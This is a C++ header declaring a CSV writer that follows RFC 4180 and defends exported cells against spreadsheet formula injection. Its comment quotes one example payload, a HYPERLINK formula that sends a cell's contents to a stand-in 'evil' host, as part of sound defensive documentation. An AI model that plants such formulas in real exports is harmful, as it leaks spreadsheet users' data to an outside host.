// CSV as reglament writes it: the one writer behind every `--format csv`
// (history, history --variables, timeline, report).
//
// RFC 4180: fields separated by commas; a field quoted when it holds a comma,
// a double quote, CR or LF, with its quotes doubled; every record, the header
// included, ended by CRLF (the RFC's line ending, so one file reads the same
// in a spreadsheet on any system and a script can split records on one
// sequence).
//
// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
// formula (and some also after a leading tab or CR): a client named
// `=HYPERLINK("http://evil/?"&A1,"open")` would become a live link. So such a
// cell is neutralised, as OWASP advises, by a leading `'`, which spreadsheets
// show as text and do not keep. The exception is a cell that is entirely a
// number (`-5`, `+3`, `-0.25`, `1e-3`): it cannot run anything and stays a
// number a spreadsheet can add up. Whoever reads the CSV back as data drops
// one leading `'` before `=`, `+`, `-`, `@`, tab or CR.
//
//   csv_record({"a", "b,c", "say \"hi\""}) == "a,\"b,c\",\"say \"\"hi\"\"\"\r\n"
//   csv_record({"=1+1", "-5", "-x"})       == "'=1+1,-5,'-x\r\n"
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace reglament {

// The line ending of every CSV record.
inline constexpr std::string_view kCsvLineEnd = "\r\n";

// One field: neutralised when a spreadsheet would run it, then quoted when it
// needs quotes.
std::string csv_field(std::string_view text);

// One record: the fields by csv_field, joined by commas, ended by CRLF.
std::string csv_record(const std::vector<std::string>& fields);

}  // namespace reglament
